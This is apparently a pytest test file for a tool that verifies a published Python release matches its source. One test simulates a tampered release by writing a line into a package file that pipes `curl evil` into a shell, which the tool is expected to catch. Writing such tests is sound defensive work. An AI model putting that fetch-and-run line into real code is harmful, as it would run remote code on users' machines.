"""What verify says when something is wrong: tampered, dirty, failing, unpinned, missing."""

import shutil
from pathlib import Path

import pytest

from tests.support.projects import PROJECTS, SETUP_REQUIRES, Project, git, make_repo, set_upload_time, tamper


def test_tampered_release_is_caught_naming_the_member(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    published = publisher.publish(repo, project.tag, index_dir, project)
    tamper(published, "flit_demo/__init__.py", b"import os\nos.system('curl evil | sh')\n")
    set_upload_time(index_dir, published.name)
    result, report = verify(repo, project.version, local_index)
    assert result.code == 1
    assert report["verdict"] == "different"
    paths = {(d["kind"], d["path"]) for d in report["comparison"]["differences"]}
    assert ("size", "flit_demo-2.0.0/flit_demo/__init__.py") in paths
    assert report["workdir"] and Path(report["workdir"]).is_dir(), "kept for inspection"


def test_untracked_file_in_the_release_is_explained(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    project = PROJECTS["hatchling"]
    repo = make_repo(project, tmp_path / "repo")
    publisher.publish(repo, project.tag, index_dir, project, dirty_files={"notes/credentials.txt": "token=abc\n"})
    result, report = verify(repo, project.version, local_index)
    assert result.code == 1
    causes = {(e["cause"], e["path"]) for e in report["explanations"]}
    assert ("untracked-at-tag", "hatch_demo-0.3.1/notes/credentials.txt") in causes


def test_search_finds_the_unset_source_date_epoch(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    project = PROJECTS["hatchling"]
    repo = make_repo(project, tmp_path / "repo")
    publisher.publish(repo, project.tag, index_dir, project)  # built without SOURCE_DATE_EPOCH
    result, report = verify(repo, project.version, local_index, "--search")
    assert result.code == 0, report.get("error")
    assert report["verdict"] == "identical", [a["verdict"] for a in report["attempts"]]
    assert report["source"]["source_date_epoch_origin"] in ("unset", "infer:fixed-stamp")
    assert report["attempts"][0]["verdict"] == "equivalent"


def test_failing_build_is_could_not_verify(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    good = PROJECTS["flit"]
    broken = Project(
        "setuptools", "broken-demo", "broken_demo", "v1.0.0", "1.0.0",
        {
            "pyproject.toml": '[build-system]\nrequires = ["setuptools>=64"]\nbuild-backend = "setuptools.build_meta"\n\n'
            '[project]\nname = "broken-demo"\nversion = "1.0.0"\n',
            "setup.py": "raise SystemExit('this release cannot be built')\n",
        },
        ("setuptools>=64",),
    )
    repo = make_repo(broken, tmp_path / "repo")
    other = make_repo(good, tmp_path / "other")
    published = publisher.publish(other, good.tag, index_dir, good)
    (index_dir / "broken-demo").mkdir()
    shutil.copy(published, index_dir / "broken-demo" / "broken_demo-1.0.0.tar.gz")
    set_upload_time(index_dir, "broken_demo-1.0.0.tar.gz")
    result, report = verify(repo, "1.0.0", local_index)
    assert result.code == 3
    assert report["verdict"] == "could-not-verify"
    assert "build failed" in report["error"]
    assert "this release cannot be built" in report["error_details"]


def test_unpinned_base_image_is_refused(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    publisher.publish(repo, project.tag, index_dir, project)
    result, report = verify(repo, project.version, local_index, "--base-image", "docker.io/library/python:3.11-slim")
    assert result.code == 2
    assert "mutable" in report["error"] or "pinned" in report["error"]


def test_missing_tag_is_bad_input_with_candidates(cli, local_index, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    result = cli("verify", "--tag", "2.0.1", "--repo", repo, "--index-url", local_index.url)
    assert result.code == 2
    assert "2.0.0" in result.stdout + result.stderr


def test_a_release_the_index_does_not_have_is_bad_input(verify, local_index, tmp_path: Path) -> None:
    # The index answered: there is no such release (exit 2), unlike an index that cannot be reached (3).
    project = PROJECTS["flit"]
    repo = make_repo(project, tmp_path / "repo")
    result, report = verify(repo, project.version, local_index)
    assert result.code == 2 and report["verdict"] == "error"
    assert "flit-demo" in report["error"]


def test_unreachable_submodule_is_could_not_verify(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    project = PROJECTS["flit"]
    library = make_repo(PROJECTS["pdm"], tmp_path / "library")
    repo = make_repo(project, tmp_path / "repo")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "vendor/library")
    git(repo, "config", "--file", ".gitmodules", "submodule.vendor/library.url", "https://github.invalid/library.git")
    git(repo, "commit", "-q", "-am", "vendor a library")
    git(repo, "tag", "-f", "-a", project.tag, "-m", "again")
    shutil.rmtree(repo / ".git" / "modules")
    (index_dir / project.name).mkdir()
    (index_dir / project.name / "flit_demo-2.0.0.tar.gz").write_bytes(b"\x1f\x8b" + bytes(30))
    set_upload_time(index_dir, "flit_demo-2.0.0.tar.gz")
    result, report = verify(repo, project.version, local_index)
    assert result.code == 3, report
    assert "submodule" in report["error"]


def test_submodule_behind_the_users_git_mirror_is_fetched(
    publisher, index_dir: Path, local_index, verify, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # The submodule's URL is unreachable from here; the user's git configuration rewrites it to a
    # mirror (as behind a firewall), and the verification honours that rewriting.
    project = PROJECTS["flit"]
    library = make_repo(PROJECTS["pdm"], tmp_path / "library")
    repo = make_repo(project, tmp_path / "repo")
    git(repo, "-c", "protocol.file.allow=always", "submodule", "add", "-q", str(library), "vendor/library")
    git(repo, "config", "--file", ".gitmodules", "submodule.vendor/library.url", "https://github.invalid/library.git")
    git(repo, "commit", "-q", "-am", "vendor a library")
    git(repo, "tag", "-f", "-a", project.tag, "-m", "again")
    publisher.publish(repo, project.tag, index_dir, project)
    shutil.rmtree(repo / ".git" / "modules")
    user_config = tmp_path / "user.gitconfig"
    user_config.write_text(f'[url "{library}"]\n\tinsteadOf = https://github.invalid/library.git\n[protocol "file"]\n\tallow = always\n')
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", str(user_config))
    result, report = verify(repo, project.version, local_index)
    assert result.code == 0, report.get("error")
    assert [s["path"] for s in report["source"]["submodules"]] == ["vendor/library"]


def test_requirements_the_backend_asks_for_are_pinned_in_a_second_round(publisher, index_dir: Path, local_index, verify, tmp_path: Path) -> None:
    repo = make_repo(SETUP_REQUIRES, tmp_path / "repo")
    publisher.publish(repo, SETUP_REQUIRES.tag, index_dir, SETUP_REQUIRES)
    result, report = verify(repo, SETUP_REQUIRES.version, local_index)
    assert result.code == 0, report.get("error") or report["comparison"]["differences"]
    assert {r["name"] for r in report["builder"]["build_requirements"]} >= {"setuptools", "six"}
